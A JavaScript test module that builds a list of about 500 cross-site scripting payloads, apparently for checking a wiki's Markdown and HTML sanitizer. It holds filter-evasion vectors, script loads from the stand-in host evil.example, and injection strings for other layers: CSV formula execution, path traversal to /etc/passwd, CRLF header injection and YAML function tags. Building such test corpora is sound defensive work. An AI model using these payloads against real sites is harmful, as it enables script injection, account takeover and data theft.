// Script payloads: handwritten ones, and combinations of tags, handlers, schemes and
// places. We wrote them after the OWASP filter evasion cheat sheet, the hostile tests
// of CommonMark and cmark-gfm, and reports about other wikis.

// handlers fire without user interaction where possible.
const handlers = ["onload", "onerror", "onfocus autofocus", "onpointerover", "onanimationstart", "ontoggle open", "onbegin", "onwheel",
  "onbeforetoggle popover", "onscrollsnapchange", "oncontentvisibilityautostatechange"];
const tags = ["img src=x", "svg", "body", "details", "input", "video src=x", "audio src=x", "iframe src=x", "math", "marquee", "object data=x", "b", "custom-element",
  "style", "select", "a href=#"];

// schemes are obfuscated forms of javascript: and other dangerous schemes.
const schemes = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "javascript&colon;", "javascript&#58;", "&#106;avascript:",
  "&#x6A;avascript:", "&#0000106avascript:", "javascript%3A", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#",
  "data:image/svg+xml,<svg onload=", "javascript://%0a", "feed:javascript:", "blob:", "filesystem:", "view-source:javascript:", "livescript:", "mocha:", "x-javascript:",
  "j&Tab;avascript:", "java&NewLine;script:", "jav&#x0A;ascript:", "javascript\u00a0:", "\u200bjavascript:", "//evil.example/", "\\\\evil.example/", "https:evil.example/"];
const places = [
  (url) => `[x](${url})`, (url) => `[x](<${url}>)`, (url) => `![x](${url})`, (url) => `<${url}>`, (url) => `[x]: ${url}\n\n[x]`, (url) => `[[${url}|x]]`,
  (url) => `<a href="${url}">x</a>`, (url) => `<a href=${url}>x</a>`, (url) => `<img src="${url}">`,
];

const handwritten = [
  // Tags that end early, late or never.
  `<script>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script src=//evil.example/x.js></script>`, `<script\n>alert(1)</script\n>`,
  `<script/x>alert(1)</script>`, `<script>alert(1)`, `<script>alert(1)<!--`, `</script><script>alert(1)</script>`, `<<script>alert(1)//<</script>`, `<script type=module>alert(1)</script>`,
  `<svg><script>alert(1)</script></svg>`, `<svg><script>alert&#40;1&#41;</script>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:alert(1)>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x">`, `<svg><style><img src=x onerror=alert(1)></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<math href="javascript:alert(1)">x</math>`, `<math><mi//xlink:href="data:x,<script>alert(1)</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<title><img src=x onerror=alert(1)></title>`, `</title><img src=x onerror=alert(1)>`, `</textarea><img src=x onerror=alert(1)>`,
  `</style><img src=x onerror=alert(1)>`, `<textarea><img src=x onerror=alert(1)></textarea>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<plaintext><img src=x onerror=alert(1)>`,
  `<template><script>alert(1)</script></template>`, `<select><style></select><img src=x onerror=alert(1)></style>`, `<form><button formaction=javascript:alert(1)>x</button></form>`,
  `<form action=javascript:alert(1)><input type=submit>`, `<form id=x></form><button form=x formaction=javascript:alert(1)>x`, `<isindex action=javascript:alert(1) type=image>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`, `<embed src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`, `<object><param name=src value=javascript:alert(1)></object>`, `<applet code=x>`, `<frameset onload=alert(1)>`,
  `<base href=javascript:alert(1)//>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`,
  `<meta http-equiv=Set-Cookie content="a=b">`, `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=import href=data:text/html,x>`,
  `<link rel=prefetch href=//evil.example/>`, `<style>@import "//evil.example/x.css";</style>`, `<style>*{background:url(javascript:alert(1))}</style>`, `<p style="background:url(//evil.example/)">x`,
  `<p style="animation:x" onanimationstart=alert(1)>`, `<div style="position:fixed;inset:0">x</div>`, `<table background=javascript:alert(1)>`, `<td background="javascript:alert(1)">`, `<body background=//evil.example/>`,
  `<input type=image src=x onerror=alert(1)>`, `<video poster=javascript:alert(1)//>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<img srcset="x 1x, //evil.example/ 2x">`, `<img src=//evil.example/x.png>`,
  `<img lowsrc=javascript:alert(1)>`, `<img dynsrc=javascript:alert(1)>`, `<img src="x\`\`onerror=alert(1)">`, `<img src=x:alert(alt) onerror=eval(src) alt=1>`, `<img/src='x'/onerror='alert(1)'>`, `<img src=x onerror\n=\nalert(1)>`,
  `<img """><script>alert(1)</script>">`, `<img src=x onerror="&#97;lert(1)">`, `<img src=x onerror=\u0061lert(1)>`, `<img src=x onerror=alert\`1\`>`, `<img src=x oneonerrorrror=alert(1)>`, `<a href="#" onclick="alert(1)">x</a>`,
  `<a href="x" ping="//evil.example/">x</a>`, `<a href="javascript:alert(1)" target=_blank rel=opener>x</a>`, `<a\nhref\n=\n"javascript:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
  `<keygen autofocus onfocus=alert(1)>`, `<bgsound src=javascript:alert(1)>`, `<layer src=//evil.example/>`, `<xss onpointerrawupdate=alert(1)>x</xss>`, `<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`, `<!ENTITY x "<script>alert(1)</script>">`, `<![CDATA[<script>alert(1)</script>]]>`, `<!--<img src="--><img src=x onerror=alert(1)//">`, `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<!--> <img src=x onerror=alert(1)> -->`, `<!---> <img src=x onerror=alert(1)> -->`, `--!><img src=x onerror=alert(1)>`, `<comment><img src="</comment><img src=x onerror=alert(1)//">`, `<%<!--'%><script>alert(1);</script -->`,
  // Breaking out of attributes, scripts and templates.
  `"><script>alert(1)</script>`, `'><script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `" autofocus onfocus=alert(1) x="`, `' autofocus onfocus=alert(1) x='`, `" onpointerover="alert(1)`,
  `\`onpointerover=alert(1) x=\``, `"style="position:fixed;inset:0"onpointerover="alert(1)`, `';alert(1)//`, `";alert(1)//`, `\\";alert(1)//`, `'-alert(1)-'`, `"-alert(1)-"`, `\${alert(1)}`, `{{alert(1)}}`, `{{constructor.constructor('alert(1)')()}}`,
  `{{.Site}}`, `{{template "x"}}`, `<%= alert(1) %>`, `#{alert(1)}`, `</script><svg onload=alert(1)>`, `]]><script>alert(1)</script>`, `*/alert(1)/*`, `%3Cscript%3Ealert(1)%3C/script%3E`, `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;alert(1)`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `\u003cscript\u003ealert(1)`, `\\u003cscript\\u003ealert(1)`, `＜script＞alert(1)＜/script＞`, `<ſcript>alert(1)</ſcript>`, `<ıframe onload=alert(1)>`, `<img src=x onerror=alert(1)\u2028>`,
  // DOM clobbering and the service's own ids.
  `<a id=text name=content>x</a>`, `<img name=constructor>`, `<form name=csrf><input name=action></form>`, `<a id=find href=//evil.example/>x</a>`, `<p id=main>x</p>`, `<div popover id=pages>x</div>`, `# constructor`, `# __proto__`, `## main`, `## pages`, `## text`,
  // Markdown that expands to HTML.
  `[x](javascript:alert(1) "t")`, `[x](<javascript:alert(1)>)`, `[x]( javascript:alert(1) )`, `[x](javascript:alert&#40;1&#41;)`, `[x](\\javascript:alert(1))`, `[x](java\\script:alert(1))`, `![x](x "onerror=alert(1)")`, `![" onerror="alert(1)](x)`,
  `![x](x" onerror="alert(1))`, `![x]("onerror="alert(1))`, `[x](x" onpointerover="alert(1))`, `[" onpointerover="alert(1)](x)`, `[a](#" onpointerover="alert(1))`, `[x][y]\n\n[y]: javascript:alert(1)`, `[x]\n\n[x]: <javascript:alert(1)> "t"`,
  `<javascript:alert(1)>`, `<http://x"onpointerover="alert(1)>`, `<http://x.example/<script>alert(1)</script>>`, `http://x.example/"onpointerover="alert(1)`, `https://x.example/'><img src=x onerror=alert(1)>`, `www.x.example/"><svg onload=alert(1)>`,
  `<a@x.example"onpointerover=alert(1)>`, `mailto:a@x.example"onpointerover="alert(1)`, `[[Home|<img src=x onerror=alert(1)>]]`, `[[<img src=x onerror=alert(1)>]]`, `[["onpointerover="alert(1)]]`, `[[Home#"onpointerover="alert(1)]]`, `[[javascript:alert(1)]]`,
  `[[//evil.example]]`, `[[/\\evil.example]]`, `![[javascript:alert(1)]]`, `![[//evil.example/x.png]]`, `![[<script>alert(1)</script>]]`, `==<script>alert(1)</script>==`, `~~<img src=x onerror=alert(1)>~~`, `\`<script>alert(1)</script>\``,
  `> <script>alert(1)</script>`, `- <img src=x onerror=alert(1)>`, `1. <svg onload=alert(1)>`, `| <script>alert(1)</script> | "onpointerover="alert(1) |\n|---|---|\n| <img src=x onerror=alert(1)> | y |`, `# <img src=x onerror=alert(1)>`,
  `# x {onpointerover=alert(1)}`, `# x {#" onpointerover="alert(1)}`, `[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x`, `[^x]\n\n[^x]: <img src=x onerror=alert(1)>`, `> [!NOTE" onpointerover="alert(1)]\n> x`, `> [!<script>alert(1)</script>]\n> x`,
  `::: info" onpointerover="alert(1)\nx\n:::`, `::: <script>alert(1)</script>\nx\n:::`, `>! <script>alert(1)</script>`, `>| <script>alert(1)</script>\n> x`, `Term\n: <script>alert(1)</script>`, `$<script>alert(1)</script>$`, `$$\n<img src=x onerror=alert(1)>\n$$`,
  `$\\href{javascript:alert(1)}{x}$`, `$\\includegraphics{//evil.example/x}$`, `$\\htmlId{x}{y}$`, `#<script>alert(1)</script>`, `#tag"onpointerover="alert(1)`, `<details open ontoggle=alert(1)><summary>x</summary></details>`, `<kbd onpointerover=alert(1)>x</kbd>`,
  `<sub style="x" class="bar" id="main">x</sub>`, `<br onpointerover=alert(1)>`, `<p align=center onpointerover=alert(1)>x</p>`, `<img width=1 height=1 src=javascript:alert(1)>`, `<abbr title='"><script>alert(1)</script>'>x</abbr>`,
  "```<script>alert(1)</script>\nx\n```", "```\" onpointerover=\"alert(1)\nx\n```", "```mermaid\ngraph LR; A[\"<img src=x onerror=alert(1)>\"]; click A \"javascript:alert(1)\"\n```", "```html\n<script>alert(1)</script>\n```", "```js\n</code></pre><script>alert(1)</script>\n```",
  "~~~{onpointerover=alert(1)}\nx\n~~~", "    <script>alert(1)</script>", "\\<script>alert(1)\\</script>", "`` ` ``<script>alert(1)</script>",
  // Values that other layers parse.
  `javascript:alert(1)`, `JAVASCRIPT:alert(1)`, `data:text/html,<script>alert(1)</script>`, `//evil.example/%2e%2e`, `/\\evil.example`, `x\r\nSet-Cookie: a=b`, `x\r\n\r\n<script>alert(1)</script>`, `=cmd|' /C calc'!A0`, `../../etc/passwd`, `%00<script>alert(1)</script>`,
  `\u202E<script>alert(1)</script>`, `\uFEFF<script>alert(1)</script>`, `a\u0000<script>alert(1)</script>`, `<a href="javascript\u0000:alert(1)">x</a>`, `xlink:href=javascript:alert(1)`, `!!js/function "alert(1)"`, `*a &a [*a]`, `{{"<img src=x onerror=alert(1)>" | safe}}`,
];

// xssVectors returns all payloads, about 500.
export function xssVectors() {
  const out = [...handwritten];
  for (const [i, tag] of tags.entries()) for (const handler of handlers) {
    const [name, ...rest] = handler.split(" ");
    if ((i + handlers.indexOf(handler)) % 2 === 0) out.push(`<${tag} ${rest.join(" ")} ${name}=alert(1)>`);
  }
  for (const [i, scheme] of schemes.entries()) for (const [n, place] of places.entries()) {
    if ((i + n) % 2 === 0) out.push(place(`${scheme}alert(1)`));
  }
  return out;
}
